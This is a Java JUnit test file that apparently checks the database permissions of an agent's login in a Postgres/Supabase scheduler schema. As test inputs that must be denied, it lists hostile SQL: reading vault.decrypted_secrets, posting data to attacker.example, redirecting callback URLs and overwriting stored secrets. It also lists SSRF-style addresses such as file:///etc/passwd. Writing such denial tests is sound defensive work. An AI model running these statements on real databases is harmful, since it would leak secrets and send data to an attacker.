package io.selfupgrade.supabase;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.selfupgrade.control.JobStore;
import io.selfupgrade.observe.Retention;
import io.selfupgrade.store.AgentStore.SchemaMode;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.SQLException;
import java.time.Duration;
import java.util.List;
import java.util.UUID;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * What an agent's login may do about the watch, which pg_cron carries out as the owner: not take
 * the owner's secrets, and not let the database call whom it likes.
 */
class WatchRightsTest {

  @RegisterExtension static final TestDatabase DATABASE = TestDatabase.fresh();

  private static final String LOGIN = "agent_" + UUID.randomUUID().toString().replace("-", "");
  private static final String NOT_ALLOWED = "42501";

  private static PostgresStore store;
  private static DatabaseCalls calls;
  private static String loginUrl;
  private static ControlScene scene;

  @BeforeAll
  static void anAgentsLoginAndTheOwnersSecrets() throws SQLException {
    store = PostgresStore.at(DATABASE.jdbcUrl());
    store.open(SchemaMode.APPLY);
    calls = DatabaseCalls.into(DATABASE);
    calls.keep("project-key", "sb_secret_x");
    owner("create role " + LOGIN + " login password 'secret' in role selfupgrade_agent");
    owner("select selfupgrade.secure_tables()"); // as a later migration does
    scene = new ControlScene(DATABASE, store);
    loginUrl =
        DATABASE
            .jdbcUrl()
            .replaceAll("user=[^&]*", "user=" + LOGIN)
            .replaceAll("password=[^&]*", "password=secret");
  }

  @AfterAll
  static void dropTheLogin() throws SQLException {
    store.close();
    owner("drop role " + LOGIN);
  }

  @BeforeEach
  void anAgentThatIsWatched() throws SQLException {
    scene.sql("select selfupgrade.set_watch(:agent, true, 'https://example.org/f', 'project-key')");
  }

  private static void owner(String sql) throws SQLException {
    try (Connection connection = DATABASE.dataSource().getConnection()) {
      new Statements(connection).script(sql);
    }
  }

  private static void agent(String sql) throws SQLException {
    try (Connection connection = DriverManager.getConnection(loginUrl)) {
      new Statements(connection).script(sql.replace(":agent", "'" + scene.fence.agent() + "'"));
    }
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "select selfupgrade.set_watch(:agent, true, 'https://attacker.example/', 'project-key')",
        "update selfupgrade.watches set call_url = 'https://attacker.example/'",
        "update selfupgrade.watches set call_secret = 'project-key'",
        "update selfupgrade.watches set alarm = 'project-key'",
        "update selfupgrade.watches set redeploy = true",
        "update selfupgrade.watches set stale_after = '7 days'",
        "insert into selfupgrade.watches (agent, call_url) values ('x', 'https://attacker.example/')",
        "insert into selfupgrade.watches (agent, alarm) values ('x', 'project-key')",
        "insert into selfupgrade.watches (agent) values (:agent) on conflict (agent)"
            + " do update set call_secret = 'project-key'",
        "delete from selfupgrade.watches",
        "truncate selfupgrade.watches",
        "select decrypted_secret from vault.decrypted_secrets",
        "select net.http_post('https://attacker.example/')",
        "select selfupgrade.secret_named('project-key')",
        "select selfupgrade.post('https://attacker.example/', '{}', '{}')",
        "select selfupgrade.secure_tables()",
        "create function selfupgrade.post(address text, body json, headers json) returns bigint"
            + " language sql return 1",
      })
  void anAgentsLoginMayNot(String sql) throws SQLException {
    assertThatThrownBy(() -> agent(sql))
        .isInstanceOf(SQLException.class)
        .extracting(e -> ((SQLException) e).getSQLState())
        .isEqualTo(NOT_ALLOWED);
  }

  @Test
  void anAgentsLoginSaysStillHowItWantsToBeWatched() throws SQLException {
    try (PostgresStore own = PostgresStore.at(loginUrl)) {
      own.open(SchemaMode.VERIFY);
      Retention longer = Retention.DEFAULT.keep(Retention.Kept.LOGS, Duration.ofDays(30));

      assertThat(own.jobs().declare(scene.fence, new JobStore.Watch(List.of("log"), longer)))
          .isTrue();
    }

    assertThat(
            scene.sql(
                "select concat_ws(' ', notifiers, redeploy, call_url, call_secret)"
                    + " from selfupgrade.watches where agent = :agent"))
        .isEqualTo("{log} t https://example.org/f project-key");
  }

  /** The rows that it may write lead to calls of the owner's own addresses only. */
  @Test
  void whatItMakesUpIsCalledWhereTheOwnerSaid() throws SQLException {
    assertThatThrownBy(
            () ->
                agent(
                    "select selfupgrade.set_watch('made-up', true, 'http://attacker/', 'project-key')"))
        .hasMessageContaining("permission denied");
    agent(
        "with o as (insert into selfupgrade.outages (agent, holder, epoch, heartbeat_at)"
            + " select a, gen_random_uuid(), 1, now() from unnest(array[:agent, 'made-up']) a"
            + " returning id, agent) insert into selfupgrade.commands (agent, kind, outage)"
            + " select agent, 'DEPLOY', id from o");
    owner("update selfupgrade.jobs set runner = 'DATABASE'");

    scene.sql("select selfupgrade.run_job('agent-health-check', 'DATABASE')");

    assertThat(calls.all())
        .isNotEmpty()
        .allSatisfy(call -> assertThat(call).startsWith("https://example.org/f "));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "http://example.org/",
        "http://10.0.0.7/",
        "http://127.0.0.1.example.org/",
        "http://localhost:80@example.org/",
        "http://localhost@example.org/",
        "ftp://example.org/",
        "https://",
        "https://example.org/ x",
        "file:///etc/passwd",
      })
  void onlyHttpsAndThisHostAreCalled(String address) {
    assertThatThrownBy(
            () ->
                scene.sql(
                    "select selfupgrade.set_watch(:agent, true, '" + address + "', 'project-key')"))
        .isInstanceOf(SQLException.class)
        .extracting(e -> ((SQLException) e).getSQLState())
        .isEqualTo("23514");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "https://example.org/f",
        "http://127.0.0.1:54321/functions/v1/self-upgrade",
        "http://localhost/f",
        "http://[::1]:8000",
      })
  void theseAre(String address) throws SQLException {
    scene.sql("select selfupgrade.set_watch(:agent, true, '" + address + "', 'project-key')");

    assertThat(scene.sql("select call_url from selfupgrade.watches where agent = :agent"))
        .isEqualTo(address);
  }
}
